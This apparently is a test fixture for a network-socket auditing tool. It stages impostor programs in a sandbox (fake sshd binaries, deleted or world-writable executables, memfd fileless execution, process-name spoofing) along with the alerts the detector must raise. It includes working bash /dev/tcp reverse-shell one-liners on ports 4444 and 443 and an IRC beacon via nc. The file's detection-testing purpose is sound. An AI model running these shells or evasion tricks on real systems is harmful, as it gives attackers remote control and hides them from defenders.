import {pathOf} from '../helpers/needs.ts';
import {fileOf} from './installed.ts';
import {address} from './sandbox.ts';

/** A program that sits where a trusted one is expected, and what must give it away. */
export type Impostor = {
  readonly name: string;
  /** Script of sh(1) that becomes the program, in a sandbox. */
  readonly start: string;
  readonly socket: string;
  readonly verdict: string;
  readonly rule: string;
  /** The failed checks, each with the evidence its detail must state; none where the rule itself is the warning. */
  readonly fails: readonly (readonly [check: string, evidence: RegExp])[];
  /** The reason in the column WHY. */
  readonly why: RegExp;
};

const python = fileOf(pathOf('python3') ?? 'python3');

// Arguments: a statement to carry out first; tcp or udp; address and port; optionally a peer's, to connect to.
const holds = `
import os, socket, sys
statement, protocol, address, port, *peer = sys.argv[1:]
exec(statement)
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if protocol == "tcp" else socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((address, int(port)))
if peer: s.connect((peer[0], int(peer[1])))
elif protocol == "tcp": s.listen()
sys.stdin.read()
`;

const hold = (program: string, ends: string, first = 'pass'): string =>
  `exec ${program} -ISc '${holds}' '${first}' ${ends}`;

// Addresses of its own let many of them hold the same port.
const trap = (number: number): string => `198.51.100.${number}`;

/** What must be there before the impostors start. Without its build ID a copy is not known as Python. */
export const impostorPreparation = `
for number in $(seq 11 29); do ip address add 198.51.100.$number/24 dev eth0; done
mkdir -m 755 /opt/deleted /opt/replaced /opt/open /opt/loose /opt/foreign
objcopy --remove-section=.note.gnu.build-id ${python} /tmp/copy
for directory in /tmp /opt/*; do cp /tmp/copy $directory/sshd; done
cp /tmp/copy /opt/replaced/new
chmod 777 /opt/loose
chmod 757 /opt/open/sshd
chown 65534 /opt/foreign/sshd
`;

const onSsh = (number: number) =>
  ({socket: `tcp LISTEN ${trap(number)}:22`, rule: 'ssh-server', verdict: 'suspect'}) as const;

/** Servers for the connections of the impostors; nothing is wrong with these. */
export const servers = [443, 6667, 4444].map(port => ({
  name: `nc on ${port}`,
  start: `exec nc.openbsd -lk ${address} ${port}`,
  socket: `tcp LISTEN ${address}:${port}`,
}));

export const impostors: readonly Impostor[] = [
  {
    ...onSsh(11),
    name: 'a copy of Python named sshd, in /tmp',
    start: hold('/tmp/sshd', `tcp ${trap(11)} 22`),
    fails: [['owner-path', /^\/tmp\/sshd lies under \/tmp, where no program is installed/]],
    why: /^runs from \/tmp$/,
  },
  {
    ...onSsh(12),
    name: 'a program whose file was deleted',
    start: hold('/opt/deleted/sshd', `tcp ${trap(12)} 22`, 'os.remove("/opt/deleted/sshd")'),
    fails: [['owner-intact', /^\/opt\/deleted\/sshd was deleted since it started/]],
    why: /^program deleted$/,
  },
  {
    ...onSsh(13),
    name: 'a program whose file was replaced',
    start: hold('/opt/replaced/sshd', `tcp ${trap(13)} 22`, 'os.rename("/opt/replaced/new", "/opt/replaced/sshd")'),
    verdict: 'learn',
    fails: [['owner-intact', /^another file stands at \/opt\/replaced\/sshd than the one that runs/]],
    why: /^replaced: upgrade\?$/,
  },
  {
    ...onSsh(14),
    name: 'a program that never was a file',
    start: `exec ${python} -ISc '
import os, sys
memory = os.memfd_create("sshd")
os.write(memory, open("/tmp/copy", "rb").read())
os.execv(f"/proc/self/fd/{memory}", ["sshd", *sys.argv[1:]])
' -ISc '${holds}' pass tcp ${trap(14)} 22`,
    fails: [
      ['owner-path', /^\/memfd:sshd is a file in memory, which nobody installed/],
      ['owner-intact', /^\/memfd:sshd was deleted since it started/],
    ],
    why: /^(?:runs from memory|program deleted|memfd:sshd, not an SSH server)$/,
  },
  {
    ...onSsh(15),
    name: 'Python that calls itself sshd',
    start: hold(
      `bash -c 'exec -a sshd "$0" "$@"' ${python}`,
      `tcp ${trap(15)} 22`,
      'open("/proc/self/comm", "w").write("sshd")',
    ),
    fails: [['owner-program', /runs python3[.\d]*, not an SSH server/]],
    why: /^python3[.\d]*, not an SSH server$/,
  },
  {
    ...onSsh(16),
    name: 'nc on 22',
    start: `exec nc.openbsd -lk ${trap(16)} 22`,
    fails: [['owner-program', /runs nc\.openbsd, not an SSH server/]],
    why: /^nc\.openbsd, not an SSH server$/,
  },
  {
    ...onSsh(17),
    name: 'a program that everybody may write',
    start: hold('/opt/open/sshd', `tcp ${trap(17)} 22`),
    fails: [['owner-path', /^\/opt\/open\/sshd can be written by everybody/]],
    why: /^anyone may change it$/,
  },
  {
    ...onSsh(18),
    name: 'a program in a directory that everybody may write',
    start: hold('/opt/loose/sshd', `tcp ${trap(18)} 22`),
    fails: [['owner-path', /^\/opt\/loose can be written by everybody/]],
    why: /^anyone may change it$/,
  },
  {
    ...onSsh(19),
    name: 'a program whose file is of another user',
    start: hold('/opt/foreign/sshd', `tcp ${trap(19)} 22`),
    fails: [['owner-path', /^\/opt\/foreign\/sshd belongs to uid 65534, not to root or its own user/]],
    why: /^another user's file$/,
  },
  {
    name: 'a shell that takes its commands from a connection',
    start: `exec bash -c 'exec bash <>/dev/tcp/${address}/4444 >&0 2>&1'`,
    socket: `tcp ESTABLISHED ${address}:* ${address}:4444`,
    verdict: 'suspect',
    rule: 'other-conversation',
    fails: [['owner-shell', /runs bash with this socket as its standard input/]],
    why: /^a shell: bash$/,
  },
  {
    name: 'such a shell behind the port of the web',
    start: `exec bash -c 'exec bash <>/dev/tcp/${address}/443 >&0 2>&1'`,
    socket: `tcp ESTABLISHED ${address}:* ${address}:443`,
    verdict: 'suspect',
    rule: 'https-client',
    fails: [['owner-shell', /runs bash with this socket as its standard input/]],
    why: /^a shell: bash$/,
  },
  {
    name: 'a program on an IRC connection',
    start: `exec nc.openbsd ${address} 6667`,
    socket: `tcp ESTABLISHED ${address}:* ${address}:6667`,
    verdict: 'suspect',
    rule: 'irc-connection',
    fails: [],
    why: /^IRC: botnet orders\?$/,
  },
  {
    name: 'Python on the port of the printer daemon',
    start: hold(python, 'tcp 127.0.0.1 631'),
    socket: 'tcp LISTEN 127.0.0.1:631',
    verdict: 'suspect',
    rule: 'printing',
    fails: [['owner-program', /runs python3[.\d]*, not the printer daemon/]],
    why: /^python3[.\d]*, not the printer daemon$/,
  },
  {
    name: 'Python on the port of a DHCP client',
    start: hold(python, 'udp 0.0.0.0 68'),
    socket: 'udp UNCONN 0.0.0.0:68',
    verdict: 'suspect',
    rule: 'dhcp-client',
    fails: [['owner-program', /runs python3[.\d]*, not a DHCP client/]],
    why: /^python3[.\d]*, not a DHCP client$/,
  },
  {
    name: 'Python on the port of a log collector',
    start: hold(python, 'udp 0.0.0.0 514'),
    socket: 'udp UNCONN 0.0.0.0:514',
    verdict: 'suspect',
    rule: 'syslog-listener',
    fails: [['owner-program', /runs python3[.\d]*, not a syslog daemon/]],
    why: /^python3[.\d]*, not a syslog daemon$/,
  },
  {
    name: 'Python on the port of service discovery',
    start: hold(python, 'udp 0.0.0.0 5353'),
    socket: 'udp UNCONN 0.0.0.0:5353',
    verdict: 'learn',
    rule: 'service-discovery',
    fails: [['owner-program', /runs python3[.\d]*, not a service discovery daemon/]],
    why: /^python3[.\d]*, not a service discovery daemon$/,
  },
  {
    name: 'Python that talks to a time server',
    start: hold(python, `udp ${address} 55123 198.51.100.1 123`),
    socket: `udp ESTABLISHED ${address}:* 198.51.100.1:123`,
    verdict: 'learn',
    rule: 'ntp-client',
    fails: [['owner-program', /runs python3[.\d]*, not a time client/]],
    why: /^python3[.\d]*, not a time client$/,
  },
];
